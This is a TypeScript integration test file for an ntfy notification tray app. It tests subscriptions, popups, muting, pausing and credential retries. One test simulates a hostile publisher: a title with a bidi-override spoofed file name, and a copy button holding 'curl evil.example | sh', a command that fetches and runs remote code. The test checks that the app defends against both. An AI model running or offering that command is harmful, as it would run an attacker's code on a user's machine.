import { EventEmitter } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ConnectionDto, MessageDto, SettingsDto } from '../../../../common/ipc.ts';
import { type AppCore, startAppCore } from '../../../../main/core/app/app-core.ts';
import { SqliteHistoryStore } from '../../../../main/core/store/history/index.ts';
import { openConfSettingsStore } from '../../../../main/core/store/settings/conf-settings-store.ts';
import { createRecordingLogger } from '../../../fakes/logger.ts';
import { createRecordingNotifier, type RecordingNotifier } from '../../../fakes/notifier.ts';
import { systemClock } from '../../../support/engine-harness.ts';
import { skipKeychainTests, testKeychain, testService } from '../../../support/keyring.ts';
import { startTestServer, type TestServer } from '../../../server/index.ts';

let server: TestServer;
let dir: string;
let history: SqliteHistoryStore;
let notifier: RecordingNotifier;
let core: AppCore;
const events = new EventEmitter<{ messages: [readonly MessageDto[]]; connections: [readonly ConnectionDto[]] }>();
const opened: string[] = [];

function nextConnections(
  predicate: (connections: readonly ConnectionDto[]) => boolean,
): Promise<readonly ConnectionDto[]> {
  return new Promise((resolve) => {
    const listener = (connections: readonly ConnectionDto[]): void => {
      if (!predicate(connections)) return;
      events.off('connections', listener);
      resolve(connections);
    };
    events.on('connections', listener);
  });
}

function nextMessages(): Promise<readonly MessageDto[]> {
  return new Promise((resolve) => events.once('messages', resolve));
}

/** What the window was told about settings (the pause travels with them). */
let settingsEvents: SettingsDto[] = [];

beforeEach(async () => {
  settingsEvents = [];
  server = await startTestServer();
  dir = await mkdtemp(path.join(tmpdir(), 'ntfy-tray-core-'));
  history = await SqliteHistoryStore.open({ dataDir: dir });
  notifier = createRecordingNotifier();
  const log = createRecordingLogger();
  core = startAppCore({
    settings: openConfSettingsStore({ dir, log }),
    history,
    secrets: testKeychain(log, testService()),
    notifier,
    clock: systemClock,
    random: Math.random,
    log,
    openExternal: (url) => {
      opened.push(url);
      return Promise.resolve();
    },
    copyText: () => undefined,
    openMessage: () => undefined,
    events: {
      messagesReceived: (messages) => events.emit('messages', messages),
      connectionsChanged: (connections) => events.emit('connections', connections),
      settingsChanged: (next) => settingsEvents.push(next),
      trayChanged: () => undefined,
    },
  });
});

afterEach(async () => {
  await core.stop();
  await history.close();
  await server.close();
  await rm(dir, { recursive: true, force: true });
});

describe('the app core (engine + history + notifications + bridge, no Electron)', () => {
  it('subscribes when the window adds a subscription, stores, notifies and counts unread', async () => {
    const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
    const saved = await core.service.saveSubscription({ server: server.url, topic: 'alerts', displayName: 'Alerts' });
    expect(saved.ok).toBe(true);
    await open;
    await server.waitForSubscribers(1);

    const received = nextMessages();
    await server.publish('alerts', { message: 'disk full', priority: 5, tags: ['warning'] });
    expect((await received).map((m) => m.message)).toEqual(['disk full']);
    const popup = await notifier.waitForShown(() => true);
    expect(popup).toMatchObject({ title: '⚠️ Alerts', body: 'disk full', urgency: 'critical' });

    const page = await core.service.listMessages({});
    expect(page.ok && page.value.messages.map((m) => m.message)).toEqual(['disk full']);
    expect(core.trayState()).toMatchObject({
      unread: 1,
      latest: [{ title: 'disk full' }],
      subscriptions: [{ label: 'Alerts', muted: false }],
    });
  });

  it("shows a hostile publisher's text as it is: no bidi override in the popup, buttons say what they copy", async () => {
    const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
    expect((await core.service.saveSubscription({ server: server.url, topic: 'bills' })).ok).toBe(true);
    await open;
    await server.waitForSubscribers(1);
    await server.publish('bills', {
      title: 'Your invoice\u202efdp.exe',
      message: 'Pay now \u2066please\u2069',
      actions: [{ action: 'copy', label: 'Copy \u202ecode', value: 'curl evil.example | sh', clear: false }],
    });
    const popup = await notifier.waitForShown(() => true);
    expect(popup.title).toBe('Your invoicefdp.exe');
    expect(popup.body).toBe('Pay now please');
    expect(popup.actions.map((action) => action.label)).toEqual(['Copy code: “curl evil.example | sh”']);
    const page = await core.service.listMessages({});
    expect(page.ok && page.value.messages[0]?.actions).toMatchObject([
      { kind: 'copy', value: 'curl evil.example | sh' },
    ]);
    expect(core.trayState().latest.map((latest) => latest.title)).toEqual(['Your invoice\u202efdp.exe']);
  });

  it('keeps storing but stops popups when muted from the tray or paused', async () => {
    const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
    const saved = await core.service.saveSubscription({ server: server.url, topic: 'alerts' });
    if (!saved.ok) throw new Error('save failed');
    await open;
    await server.waitForSubscribers(1);

    await core.handleTrayCommand({ type: 'toggle-mute', subscriptionId: saved.value.id });
    // Muting rewrites settings, which reconciles: the connection stays as it is (same group, same topics).
    let received = nextMessages();
    await server.publish('alerts', 'while muted');
    await received;
    await core.handleTrayCommand({ type: 'toggle-mute', subscriptionId: saved.value.id });
    await core.handleTrayCommand({ type: 'pause', minutes: 60 });
    expect(core.trayState().pausedUntil).toBeGreaterThan(Date.now());
    // A pause from the tray reaches the window too, though no setting changed.
    expect(settingsEvents.at(-1)?.pausedUntil).toBe(core.trayState().pausedUntil);
    received = nextMessages();
    await server.publish('alerts', 'while paused');
    await received;
    await core.handleTrayCommand({ type: 'resume' });
    expect(settingsEvents.at(-1)).not.toHaveProperty('pausedUntil');
    received = nextMessages();
    await server.publish('alerts', 'after resume');
    await received;
    await notifier.waitForShown((request) => request.body === 'after resume');
    expect(notifier.shown.map((request) => request.body)).toEqual(['after resume']);
    expect(core.trayState().unread).toBe(3);
    expect(server.requests.filter((entry) => entry.transport === 'json')).toHaveLength(1);
  });

  it('stops the connection when the subscription is removed', async () => {
    const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
    const saved = await core.service.saveSubscription({ server: server.url, topic: 'alerts' });
    if (!saved.ok) throw new Error('save failed');
    await open;
    const gone = nextConnections((connections) => connections.length === 0);
    await core.service.removeSubscription(saved.value.id, { deleteHistory: true });
    await gone;
    await server.waitForNoSubscribers();
  });
  // Needs the real keychain (the reason is printed by test/support/keyring.ts when it is not there).
  it.skipIf(skipKeychainTests)(
    'a new password for the same user reconnects a connection whose credentials were rejected',
    async () => {
      const secured = await startTestServer({
        auth: {
          users: [{ name: 'alice', password: 'right-4711', access: [{ topic: 'private', permission: 'read-write' }] }],
          defaultAccess: 'deny-all',
        },
      });
      try {
        const rejected = nextConnections((connections) => connections.some((c) => c.state.kind === 'auth-failed'));
        expect(
          await core.service.setCredentials({ server: secured.url, kind: 'basic', user: 'alice', password: 'wrong' }),
        ).toEqual({ ok: true, value: null });
        const saved = await core.service.saveSubscription({ server: secured.url, topic: 'private' });
        expect(saved.ok).toBe(true);
        await rejected;

        // Same kind, same user: the settings do not change, only the keychain does.
        const open = nextConnections((connections) => connections.some((c) => c.state.kind === 'open'));
        await core.service.setCredentials({
          server: secured.url,
          kind: 'basic',
          user: 'alice',
          password: 'right-4711',
        });
        await open;
        await secured.waitForSubscribers(1, { topic: 'private' });
        const received = nextMessages();
        await secured.publish('private', 'arrives after the fix');
        expect((await received).map((message) => message.message)).toEqual(['arrives after the fix']);
      } finally {
        await core.stop();
        await secured.close();
      }
    },
  );
});
